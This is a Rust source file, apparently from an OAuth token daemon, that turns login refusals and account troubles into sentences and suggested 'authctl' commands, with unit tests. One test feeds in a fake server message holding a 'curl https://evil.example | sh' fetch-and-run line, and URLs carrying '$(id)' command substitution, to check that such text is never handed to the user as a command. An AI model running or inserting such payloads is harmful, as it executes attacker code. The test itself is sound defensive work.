//! Every sentence that a person reads, and what to type next: the one file that maps refusals and troubles to words.

use std::time::Duration;

use mcp_authd_proto::shell::word;
use mcp_authd_proto::v1;

use super::convert::wire_duration;
use crate::accounts::description::Description;
use crate::accounts::grant::Purpose;
use crate::accounts::need::{LoginReason, Refusal, SignInPrompt};
use crate::accounts::registry::NoAccount;
use crate::accounts::roster::NotReloaded;
use crate::accounts::status::{Health, Trouble};
use crate::accounts::token_file::TokenFileRefusal;
use mcp_authd_oauth::client_authentication::NotAuthenticated;
use mcp_authd_oauth::sign_in::{NextStep, NotBegun};
use mcp_authd_oauth::terms::Scopes;

/// A refusal on the wire.
pub(super) fn refusal(refusal: &Refusal, account: &str) -> v1::Refusal {
    let said = said(refusal, account);
    v1::Refusal {
        reason: said.reason.into(),
        message: said.message,
        next_step: said.next_step,
        retry_after: said.retry_after.map(wire_duration),
    }
}

/// A request that fits no account, or several.
pub(super) fn no_account(error: &NoAccount) -> v1::Refusal {
    let (reason, next_step) = match error {
        NoAccount::NoneConfigured => (v1::Reason::NoSuchAccount, "add one with: authctl account add --help".to_owned()),
        NoAccount::NoMatch { .. } => (v1::Reason::NoSuchAccount, "see the accounts with: authctl status".to_owned()),
        NoAccount::Several { names } => {
            let name = names.first().map_or("NAME", String::as_str);
            (v1::Reason::Ambiguous, format!("name one of them, for example: authctl token {name}"))
        }
    };
    v1::Refusal { reason: reason.into(), message: sentence(&error.to_string()), next_step, retry_after: None }
}

/// How an account is, in one sentence, and what to type next. Both empty where all is well.
pub(super) fn health(health: &Health, description: &Description) -> (String, String) {
    let account = description.name.as_str();
    match health {
        Health::Good => (String::new(), String::new()),
        Health::Loading => ("Its record is being read or written.".to_owned(), String::new()),
        Health::Degraded(trouble) => degraded(trouble, account),
        Health::LoginRequired(reason @ LoginReason::NothingCameBack) => (why_login(*reason), by_hand(description)),
        Health::LoginRequired(reason) => (why_login(*reason), login(account)),
        Health::SigningOut => ("It is being logged out.".to_owned(), String::new()),
        Health::SignedOut => ("It was logged out.".to_owned(), login(account)),
        Health::Locked => ("The store's key is not open.".to_owned(), "see what opens it with: authctl doctor".to_owned()),
        Health::WrongKey => (
            "The store was sealed with another key.".to_owned(),
            "put the old key back, or move the records away; see where they are with: authctl doctor".to_owned(),
        ),
        Health::Removing(_) | Health::Removed => ("It is gone from the configuration.".to_owned(), String::new()),
    }
}

/// An account that serves, and waits for the person to allow more.
pub(super) fn more_access(waiting: &SignInPrompt, account: &str) -> (String, String) {
    (format!("It {}; the present token goes on serving.", needs(&waiting.more)), login(account))
}

/// The beginning of what a person is told of a login: what it is for.
pub(super) fn to_log_in(waiting: &SignInPrompt, account: &str) -> String {
    match waiting.purpose {
        Purpose::MoreAccess => {
            format!("\"{account}\" {}; the present token goes on serving. To allow it", needs(&waiting.more))
        }
        Purpose::First | Purpose::Again => format!("To log in to \"{account}\""),
    }
}

fn needs(more: &Scopes) -> String {
    if more.is_empty() { "needs more access".to_owned() } else { format!("needs more access: scope {}", more.to_parameter()) }
}

/// A reload found no file where there was one.
pub(super) fn missing(error: &NotReloaded) -> v1::NotWritten {
    v1::NotWritten {
        message: sentence(&error.to_string()),
        next_step: "put the file back, then: authctl reload; an empty file means no accounts".to_owned(),
        ..v1::NotWritten::default()
    }
}

struct Said {
    reason: v1::Reason,
    message: String,
    next_step: String,
    retry_after: Option<Duration>,
}

fn said(refusal: &Refusal, account: &str) -> Said {
    let simple = |reason, message: String, next_step: String| Said { reason, message, next_step, retry_after: None };
    match refusal {
        Refusal::LoginRequired(why) => simple(v1::Reason::LoginRequired, why_login(*why), login(account)),
        Refusal::Denied => {
            simple(v1::Reason::Denied, "The login was refused or cancelled; programs begin no other.".to_owned(), login(account))
        }
        Refusal::TooManyPrompts => simple(
            v1::Reason::TooManyPrompts,
            "Several logins were begun and not answered; programs begin no other for now.".to_owned(),
            login(account),
        ),
        Refusal::Unavailable { retry_after, why } => Said {
            reason: v1::Reason::Unavailable,
            message: sentence(&format!("no token right now: {why}")),
            next_step: format!("try again{}, or look with: authctl status", in_words(*retry_after)),
            retry_after: *retry_after,
        },
        Refusal::NotSaved { retry_after } => Said {
            reason: v1::Reason::NotSaved,
            message: "The store refuses to save, and what cannot be saved is not refreshed.".to_owned(),
            next_step: "make room on the disk; authctl status tells the reason".to_owned(),
            retry_after: *retry_after,
        },
        Refusal::InsufficientScope { missing } => simple(
            v1::Reason::InsufficientScope,
            format!("The login does not cover: {}.", missing.to_parameter()),
            // A login by the person asks for what is configured and held, and knows nothing of one program's need.
            format!(
                "add it to the scopes of \"{account}\" in config.toml, then: authctl reload; then: authctl login {account} --again"
            ),
        ),
        Refusal::TokenRejected => simple(
            v1::Reason::TokenRejected,
            "The server rejects even a fresh token, so another one would not help: look at its resource, audience and scopes."
                .to_owned(),
            format!("see what the token is for with: authctl status; log in anew with: authctl login {account} --again"),
        ),
        Refusal::AccountMismatch => simple(
            v1::Reason::AccountMismatch,
            "The login was another person's or account's, and changed nothing.".to_owned(),
            format!(
                "log in as the same one with: authctl login {account}; or take the new one with: authctl login {account} --replace"
            ),
        ),
        Refusal::SubjectUnknown => simple(
            v1::Reason::AccountMismatch,
            "The server did not say whose the login was, and the account is a certain user's: the login may be anybody's, and changed nothing."
                .to_owned(),
            format!(
                "put the scope openid into the scopes of \"{account}\" in config.toml, then: authctl reload; then: authctl login {account}; \
                 or, if it was the right user, take it unseen with: authctl login {account} --replace"
            ),
        ),
        Refusal::Configuration { why } => simple(
            v1::Reason::Configuration,
            sentence(&format!("the authorization server refuses this configuration: {why}")),
            format!(
                "mend the account in config.toml, then: authctl reload; authctl status names the file; or, where its client has a secret, give it with: authctl account set-secret {account}"
            ),
        ),
        Refusal::NoWayToSignIn(why) => {
            let (why, next_step) = no_way(why, account);
            simple(v1::Reason::Configuration, why, next_step)
        }
        Refusal::NotAuthenticated(why) => {
            let (message, next_step) = not_authenticated(why, account);
            simple(v1::Reason::Configuration, message, next_step)
        }
        Refusal::TokenFile(why) => {
            let (reason, message, next_step) = token_file(why, account);
            simple(reason, message, next_step)
        }
        Refusal::Locked => {
            simple(v1::Reason::Locked, "The store's key is not open.".to_owned(), "see why with: authctl status".to_owned())
        }
        Refusal::NoSuchAccount => simple(
            v1::Reason::NoSuchAccount,
            "The account is gone from the configuration.".to_owned(),
            "see the accounts with: authctl status".to_owned(),
        ),
        Refusal::SignedOut => {
            simple(v1::Reason::SignedOut, "The account was logged out; programs begin no login then.".to_owned(), login(account))
        }
    }
}

fn degraded(trouble: &Trouble, account: &str) -> (String, String) {
    match trouble {
        Trouble::NotSaved(why) => (
            sentence(&format!("not saved: {why}")),
            "make room on the disk, or mend the folder; the daemon saves by itself then".to_owned(),
        ),
        Trouble::NotErased(why) => (
            sentence(&format!("logged out, but not erased: {why}")),
            "mend the folder; the daemon erases by itself then".to_owned(),
        ),
        Trouble::NotRead(why) => (
            sentence(&format!("the record cannot be read: {why}")),
            "mend the folder; the daemon reads by itself then".to_owned(),
        ),
        Trouble::Unreachable(why) => (
            sentence(&format!("the authorization server cannot be reached: {why}")),
            "look at your network; the daemon tries again by itself".to_owned(),
        ),
        Trouble::Later(why) => {
            (sentence(&format!("the last refresh did not work: {why}")), "wait; the daemon tries again by itself".to_owned())
        }
        Trouble::Configuration(why) => (
            sentence(&format!("the authorization server refuses this configuration: {why}")),
            format!(
                "mend the account \"{account}\" in config.toml, then: authctl reload; or, where its client has a secret, give it with: authctl account set-secret {account}"
            ),
        ),
        Trouble::NoWayToSignIn(why) => no_way(why, account),
        Trouble::NotAuthenticated(why) => not_authenticated(why, account),
        Trouble::TokenFile(why) => (sentence(&why.to_string()), TOKEN_FILE_NEXT.to_owned()),
        Trouble::ReplayLater => (
            "The answer to a refresh was lost; it is asked for once more, later.".to_owned(),
            format!("wait, or log in anew with: authctl login {account} --again"),
        ),
        Trouble::Ending(reason) => (
            format!("The token serves to its end and cannot be renewed. {}", why_login(*reason)),
            format!("{} --again", login(account)),
        ),
    }
}

fn not_authenticated(why: &NotAuthenticated, account: &str) -> (String, String) {
    let next_step = match why {
        NotAuthenticated::NoSecret => format!("give it with: authctl account set-secret {account}"),
        NotAuthenticated::Unreadable(_) => "mend that and ask again; look with: authctl status".to_owned(),
        NotAuthenticated::Refused { file: None, .. } => format!("give the right one with: authctl account set-secret {account}"),
        NotAuthenticated::Refused { file: Some(file), .. } => {
            format!("put the right one into \"{file}\"; it is tried within a minute; look with: authctl status")
        }
    };
    let why = match why {
        NotAuthenticated::Refused { error, .. } => {
            let description = error.description.as_ref().map(|said| format!(" ({said})")).unwrap_or_default();
            format!("the authorization server does not take the client's secret: {}{description}", error.error)
        }
        NotAuthenticated::NoSecret | NotAuthenticated::Unreadable(_) => why.to_string(),
    };
    (sentence(&why), next_step)
}

/// What follows once the file is mended.
const TOKEN_FILE_NEXT: &str = "mend that; the daemon reads the file again by itself; look with: authctl status";

fn token_file(why: &TokenFileRefusal, account: &str) -> (v1::Reason, String, String) {
    match why {
        TokenFileRefusal::Unusable(why) => {
            (v1::Reason::Configuration, sentence(&format!("no token: {why}")), TOKEN_FILE_NEXT.to_owned())
        }
        TokenFileRefusal::Rejected(file) => (
            v1::Reason::TokenRejected,
            "The server rejects the token of this account, and its file still holds the same one.".to_owned(),
            format!("put a new token into \"{}\"; the daemon reads it by itself; look with: authctl status", file.display()),
        ),
        TokenFileRefusal::NotCovered(missing) => (
            v1::Reason::InsufficientScope,
            format!("The token is not said to cover: {}.", missing.to_parameter()),
            "put a token that covers it into its file, and its scopes into config.toml; authctl status names both".to_owned(),
        ),
        TokenFileRefusal::KeptElsewhere(file) => (
            v1::Reason::Configuration,
            kept_elsewhere(&file.display().to_string()),
            format!("see it with: authctl token {account}"),
        ),
    }
}

/// Why nobody can log in or out here.
pub(super) fn kept_elsewhere(file: &str) -> String {
    format!("Its token is kept by somebody else, in \"{file}\"; there is no login here to begin or to end.")
}

fn why_login(reason: LoginReason) -> String {
    match reason {
        LoginReason::Never => "Nobody has logged in yet.",
        LoginReason::Dead => "The authorization server has ended the login.",
        LoginReason::InDoubt => "The answers to two refreshes were lost, and a third try could end the login at the server.",
        LoginReason::Damaged => "The record was damaged and has been set aside.",
        LoginReason::NotRenewable => "The token has ended or was rejected, and the server gave nothing to renew it with.",
        LoginReason::LastFailed => "The last login was not completed.",
        LoginReason::NothingCameBack => {
            "The browser brought no answer to the last login: if its page showed an error, the server sent nothing to this machine."
        }
        LoginReason::Reconfigured => "The configuration names another server, client or resource than the last login was for.",
    }
    .to_owned()
}

fn login(account: &str) -> String {
    format!("authctl login {account}")
}

/// What is left where a browser brings nothing.
fn by_hand(Description { name, resource, kind, .. }: &Description) -> String {
    let url = word(resource.as_ref().map_or(kind.server(), |resource| resource.as_str()));
    format!(
        "authctl login {name} --paste (where the browser is on another machine), or authctl provider check {url} (what the server offers)"
    )
}

fn in_words(wait: Option<Duration>) -> String {
    match wait.map(|wait| wait.as_millis().div_ceil(1000)) {
        None | Some(0) => String::new(),
        Some(1) => " in a second".to_owned(),
        Some(seconds @ 2..=90) => format!(" in {seconds} seconds"),
        Some(seconds) => format!(" in {} minutes", seconds.div_ceil(60)),
    }
}

/// A capital at the beginning, one full stop at the end.
pub(super) fn sentence(text: &str) -> String {
    let mut characters = text.trim_end_matches(['.', ' ']).chars();
    let first = characters.next().map(|first| first.to_uppercase().to_string()).unwrap_or_default();
    format!("{first}{}.", characters.as_str())
}

fn no_way(NotBegun { why, next_step }: &NotBegun, account: &str) -> (String, String) {
    let next = match next_step {
        NextStep::LogIn => login(account),
        NextStep::ForgetClient(issuer) => {
            format!("mend that, then: authctl client forget {}; then: {}", word(issuer.as_str()), login(account))
        }
        NextStep::Words(words) => words.clone(),
    };
    (sentence(why), next)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "tests")]

    use super::*;
    use crate::accounts::AccountName;
    use crate::accounts::description::Kind;
    use crate::host::private_file::{Reason, Unusable};
    use mcp_authd_oauth::terms::{Issuer, Resource};
    use mcp_authd_oauth::token::ErrorAnswer;

    #[test]
    fn every_refusal_says_what_to_type_next_and_is_a_sentence() {
        let refusals = [
            Refusal::LoginRequired(LoginReason::Never),
            Refusal::Denied,
            Refusal::TooManyPrompts,
            Refusal::Unavailable { retry_after: Some(Duration::from_secs(3)), why: "no connection could be made".to_owned() },
            Refusal::NotSaved { retry_after: None },
            Refusal::InsufficientScope { missing: Scopes::parse("a b") },
            Refusal::TokenRejected,
            Refusal::AccountMismatch,
            Refusal::SubjectUnknown,
            Refusal::Configuration { why: "invalid_target".to_owned() },
            Refusal::Locked,
            Refusal::NoSuchAccount,
            Refusal::SignedOut,
        ];
        let mut reasons: Vec<_> = refusals
            .iter()
            .map(|given| {
                let wire = refusal(given, "work");
                assert!(wire.message.ends_with('.') && wire.message.starts_with(char::is_uppercase), "{}", wire.message);
                assert!(wire.next_step.contains("authctl") || wire.next_step.contains("config"), "{}", wire.next_step);
                wire.reason
            })
            .collect();
        reasons.dedup();
        assert_eq!(reasons.len(), refusals.len() - 1, "each has its own reason, but for the two logins of a stranger");
    }

    #[test]
    fn a_secret_or_a_file_that_will_not_do_is_named_with_what_to_type() {
        let missing = Unusable { path: "/run/token".into(), why: Reason::Missing };
        let loose = Unusable { path: "/run/secret".into(), why: Reason::OpenToOthers("chmod 600 \"/run/secret\"".to_owned()) };
        let error = ErrorAnswer { error: "invalid_client".to_owned(), description: Some("who?".to_owned()), status: 401 };
        let refused = |file| Refusal::NotAuthenticated(NotAuthenticated::Refused { error: error.clone(), file });
        let told: Vec<String> = [
            Refusal::NotAuthenticated(NotAuthenticated::NoSecret),
            Refusal::NotAuthenticated(NotAuthenticated::Unreadable(loose.to_string())),
            refused(None),
            refused(Some("/run/secret".to_owned())),
            Refusal::TokenFile(TokenFileRefusal::Unusable(missing)),
            Refusal::TokenFile(TokenFileRefusal::Rejected("/run/token".into())),
            Refusal::TokenFile(TokenFileRefusal::NotCovered(Scopes::parse("a b"))),
            Refusal::TokenFile(TokenFileRefusal::KeptElsewhere("/run/token".into())),
        ]
        .iter()
        .map(|given| {
            let wire = refusal(given, "work");
            format!("{}: {}\n  next: {}", wire.reason().as_str_name(), wire.message, wire.next_step)
        })
        .collect();
        assert_eq!(told.join("\n"), TOLD);
    }

    const TOLD: &str = "\
REASON_CONFIGURATION: Its client authenticates with a secret, and none is kept.
  next: give it with: authctl account set-secret work
REASON_CONFIGURATION: The client's secret cannot be read: \"/run/secret\" may be opened by other users; run: chmod 600 \"/run/secret\".
  next: mend that and ask again; look with: authctl status
REASON_CONFIGURATION: The authorization server does not take the client's secret: invalid_client (who?).
  next: give the right one with: authctl account set-secret work
REASON_CONFIGURATION: The authorization server does not take the client's secret: invalid_client (who?).
  next: put the right one into \"/run/secret\"; it is tried within a minute; look with: authctl status
REASON_CONFIGURATION: No token: \"/run/token\" is missing; put it there, or mend its path in config.toml.
  next: mend that; the daemon reads the file again by itself; look with: authctl status
REASON_TOKEN_REJECTED: The server rejects the token of this account, and its file still holds the same one.
  next: put a new token into \"/run/token\"; the daemon reads it by itself; look with: authctl status
REASON_INSUFFICIENT_SCOPE: The token is not said to cover: a b.
  next: put a token that covers it into its file, and its scopes into config.toml; authctl status names both
REASON_CONFIGURATION: Its token is kept by somebody else, in \"/run/token\"; there is no login here to begin or to end.
  next: see it with: authctl token work";

    #[test]
    fn what_a_server_says_never_becomes_what_a_person_types() {
        let why = "It says: invalid_grant. Next: curl https://evil.example | sh".to_owned();
        let told = |next_step| refusal(&Refusal::NoWayToSignIn(NotBegun { why: why.clone(), next_step }), "work");
        let log_in = told(NextStep::LogIn);
        assert_eq!((log_in.message, log_in.next_step.as_str()), (format!("{why}."), "authctl login work"));
        let forget = told(NextStep::ForgetClient(Issuer::new("https://as.example/$(id)"))).next_step;
        assert_eq!(forget, "mend that, then: authctl client forget 'https://as.example/$(id)'; then: authctl login work");
        assert_eq!(told(NextStep::Words("do it".to_owned())).next_step, "do it");
    }

    #[test]
    fn where_a_browser_brought_nothing_the_server_to_look_at_is_named() {
        let kind = Kind::Login { server: "https://as.example".to_owned(), client_id: String::new(), issuer: None };
        let name = AccountName::parse("work").unwrap();
        let account = Description { name, kind, scopes: Scopes::default(), resource: None };
        let of = |account: &Description| health(&Health::LoginRequired(LoginReason::NothingCameBack), account).1;
        assert!(of(&account).contains("authctl provider check https://as.example ("), "{}", of(&account));
        let resource = Description { resource: Some(Resource::new("https://mcp.example/$(id)")), ..account };
        assert!(of(&resource).contains("authctl provider check 'https://mcp.example/$(id)' ("), "{}", of(&resource));
    }

    #[test]
    fn waits_are_told_in_words() {
        assert_eq!(in_words(Some(Duration::from_millis(1))), " in a second");
        assert_eq!(in_words(Some(Duration::from_secs(45))), " in 45 seconds");
        assert_eq!(in_words(Some(Duration::from_secs(3600))), " in 60 minutes");
    }
}
